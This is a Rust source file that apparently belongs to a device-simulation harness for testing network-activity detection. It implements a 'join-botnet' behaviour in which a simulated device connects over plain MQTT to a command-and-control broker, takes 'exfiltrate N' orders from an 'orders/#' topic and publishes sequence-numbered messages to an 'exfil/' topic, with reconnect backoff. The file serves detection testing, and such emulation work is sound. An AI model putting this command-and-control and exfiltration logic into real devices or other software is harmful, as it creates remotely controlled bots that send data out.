//! The device becomes a bot: it connects to a command-and-control broker in plain MQTT, exfiltrates, and
//! obeys orders. The network-activity collector sees its flow as it sees any other.

use alloc::boxed::Box;
use alloc::format;
use alloc::string::String;

use hilarm_link::LogLevel;

use super::{Behaviour, Param, ParamKind, Progress, Running, not_now};
use crate::backoff::Backoff;
use crate::device::Device;
use crate::io::{Input, Now, Socket};
use crate::mqtt::{Client, Connect, Event, Publication, Publish, Qos};

const DEFAULT_PORT: u16 = 1883;
const DEFAULT_MESSAGES: u32 = 3;
const DEFAULT_INTERVAL_MS: u32 = 1000;
const KEEP_ALIVE_S: u16 = 60;
const OPEN_TIMEOUT_US: u64 = 30_000_000;
/// What one order can ask for.
const ORDER_MAX: u32 = 10_000;

pub(super) static BEHAVIOUR: Behaviour = Behaviour {
    name: "join-botnet",
    summary: "Connects to a command-and-control broker over plain MQTT, exfiltrates and obeys its orders.",
    attack: &["T1071.005", "T1041"],
    params: &[
        Param {
            name: "address",
            kind: ParamKind::Address,
            required: true,
            summary: "The broker; from a documentation range.",
        },
        Param {
            name: "port",
            kind: ParamKind::Int { min: 1, max: 65_535 },
            required: false,
            summary: "The broker's TCP port; 1883 by default.",
        },
        Param {
            name: "messages",
            kind: ParamKind::Int { min: 0, max: 1_000_000 },
            required: false,
            summary: "How many messages to exfiltrate without being ordered to; 3 by default.",
        },
        Param {
            name: "interval_ms",
            kind: ParamKind::Int { min: 1, max: 3_600_000 },
            required: false,
            summary: "Pause between two messages; 1000 by default.",
        },
    ],
    start: |device, args, now| {
        let address = args.address("address")?;
        let port = args.int("port", DEFAULT_PORT)?;
        let messages = args.int("messages", DEFAULT_MESSAGES)?;
        let interval_ms = args.int("interval_ms", DEFAULT_INTERVAL_MS)?;
        let mut bot = Bot::new(device, (address, port), messages, interval_ms);
        bot.open(device, now);
        match bot.phase {
            Phase::Waiting { .. } => Err(not_now("all sockets are in use")),
            _ => Ok(Box::new(bot)),
        }
    },
};

#[derive(Clone, Copy, PartialEq, Eq)]
enum Phase {
    Waiting { until_us: u64 },
    Connecting { socket: Socket, deadline_us: u64 },
    Up { socket: Socket },
}

struct Bot {
    broker: ([u8; 4], u16),
    device_id: String,
    mqtt: Client,
    phase: Phase,
    backoff: Backoff,
    interval_us: u64,
    next_us: u64,
    unsent: u32,
    unacknowledged: u32,
    sequence: u32,
    subscribed: bool,
    told: bool,
}

impl Bot {
    fn new(device: &Device, broker: ([u8; 4], u16), messages: u32, interval_ms: u32) -> Self {
        Self {
            broker,
            device_id: device.id.clone(),
            mqtt: Client::new(),
            phase: Phase::Waiting { until_us: 0 },
            backoff: Backoff::new(device.random("join-botnet")),
            interval_us: u64::from(interval_ms) * 1000,
            next_us: 0,
            unsent: messages,
            unacknowledged: 0,
            sequence: 0,
            subscribed: false,
            told: false,
        }
    }

    fn socket(&self) -> Option<Socket> {
        match self.phase {
            Phase::Waiting { .. } => None,
            Phase::Connecting { socket, .. } | Phase::Up { socket } => Some(socket),
        }
    }

    fn open(&mut self, device: &mut Device, now: Now) {
        let (address, port) = self.broker;
        match device.open_plain(address, port) {
            Some(socket) => {
                let deadline_us = now.mono_us.saturating_add(OPEN_TIMEOUT_US);
                self.phase = Phase::Connecting { socket, deadline_us };
            }
            None => self.try_later(now),
        }
    }

    fn opened(&mut self, now: Now) {
        let connect = Connect {
            client_id: format!("bot-{}", self.device_id),
            user_name: None,
            password: None,
            keep_alive_s: KEEP_ALIVE_S,
            clean_session: true,
        };
        self.mqtt.start(&connect, now.mono_us);
    }

    fn take_events(&mut self, device: &mut Device, now: Now) {
        while let Some(event) = self.mqtt.poll_event() {
            match event {
                Event::Accepted { .. } => self.accepted(now),
                Event::Subscribed { .. } => {
                    self.subscribed = true;
                    self.next_us = self.next_us.max(now.mono_us);
                }
                Event::Done { .. } | Event::Dropped { .. } => {
                    self.unacknowledged = self.unacknowledged.saturating_sub(1);
                }
                Event::Received(message) => self.obey(device, &message, now),
                Event::Refused { code } => self.lost(device, &format!("connack {code}"), now),
                Event::Broken { reason } => self.lost(device, &reason, now),
            }
        }
    }

    fn accepted(&mut self, now: Now) {
        if let Some(socket) = self.socket() {
            self.phase = Phase::Up { socket };
        }
        self.backoff.reset();
        self.mqtt.subscribe(&[("orders/#", Qos::AtLeastOnce)], now.mono_us);
    }

    /// `exfiltrate N`: that many messages more.
    fn obey(&mut self, device: &mut Device, order: &Publish, now: Now) {
        let count = core::str::from_utf8(&order.payload)
            .ok()
            .and_then(|text| text.trim().strip_prefix("exfiltrate "))
            .and_then(|count| count.trim().parse::<u32>().ok());
        let Some(count) = count else {
            device.log(LogLevel::Warn, format!("bot: order on {} not understood", order.topic));
            return;
        };
        if self.unsent == 0 {
            self.next_us = self.next_us.max(now.mono_us);
        }
        self.unsent = self.unsent.saturating_add(count.min(ORDER_MAX));
        self.told = false;
    }

    fn exfiltrate(&mut self, now: Now) {
        while self.due_us().is_some_and(|due_us| due_us <= now.mono_us) {
            self.unsent -= 1;
            self.unacknowledged += 1;
            self.sequence += 1;
            self.next_us = self.next_us.saturating_add(self.interval_us);
            let payload = format!(r#"{{"device":"{}","seq":{}}}"#, self.device_id, self.sequence);
            let publication = Publication {
                topic: format!("exfil/{}", self.device_id),
                payload: payload.into_bytes(),
                qos: Qos::AtLeastOnce,
                tag: 0,
            };
            self.mqtt.publish(publication, now.mono_us);
        }
    }

    /// When the next message goes out; nothing while it cannot.
    fn due_us(&self) -> Option<u64> {
        let may_send = matches!(self.phase, Phase::Up { .. }) && self.subscribed && self.mqtt.has_room();
        (may_send && self.unsent > 0).then_some(self.next_us)
    }

    fn lost(&mut self, device: &mut Device, reason: &str, now: Now) {
        device.log(LogLevel::Info, format!("bot: no connection to its broker: {reason}"));
        if let Some(socket) = self.socket() {
            device.close(socket);
        }
        self.forget_connection(now);
    }

    fn forget_connection(&mut self, now: Now) {
        self.mqtt.transport_lost();
        self.subscribed = false;
        self.try_later(now);
    }

    fn try_later(&mut self, now: Now) {
        let until_us = now.mono_us.saturating_add(self.backoff.next_pause_us());
        self.phase = Phase::Waiting { until_us };
    }

    fn settle(&mut self, device: &mut Device, now: Now) {
        self.take_events(device, now);
        self.exfiltrate(now);
        if let Some(socket) = self.socket() {
            device.send(socket, self.mqtt.take_output());
        }
    }
}

impl Running for Bot {
    fn handle_input(&mut self, device: &mut Device, input: &Input, now: Now) {
        let own = self.socket();
        match input {
            Input::Opened { socket, .. } if Some(*socket) == own => self.opened(now),
            Input::Received { socket, bytes } if Some(*socket) == own => {
                self.mqtt.receive(bytes, now.mono_us);
            }
            Input::Closed { socket, reason } if Some(*socket) == own => {
                device.log(LogLevel::Info, format!("bot: no connection to its broker: {reason}"));
                self.forget_connection(now);
            }
            _ => return,
        }
        self.settle(device, now);
    }

    fn handle_timeout(&mut self, device: &mut Device, now: Now) {
        match self.phase {
            Phase::Waiting { until_us } if until_us <= now.mono_us => self.open(device, now),
            Phase::Connecting { deadline_us, .. } if deadline_us <= now.mono_us => {
                self.lost(device, "timed out", now);
            }
            _ => self.mqtt.handle_timeout(now.mono_us),
        }
        self.settle(device, now);
    }

    fn poll_timeout(&self) -> Option<u64> {
        match self.phase {
            Phase::Waiting { until_us } => Some(until_us),
            Phase::Connecting { deadline_us, .. } => Some(deadline_us),
            Phase::Up { .. } => [self.mqtt.poll_timeout(), self.due_us()].into_iter().flatten().min(),
        }
    }

    fn progress(&mut self, _device: &Device) -> Progress {
        let all_done = self.subscribed && self.unsent == 0 && self.unacknowledged == 0;
        if !all_done || self.told {
            return Progress::UnderWay;
        }
        self.told = true;
        Progress::DoneForNow
    }

    fn stop(&mut self, device: &mut Device, now: Now) {
        if let Some(socket) = self.socket() {
            self.mqtt.disconnect(now.mono_us);
            device.send(socket, self.mqtt.take_output());
            device.close(socket);
        }
    }
}

#[cfg(test)]
#[path = "join_botnet_tests.rs"]
mod tests;
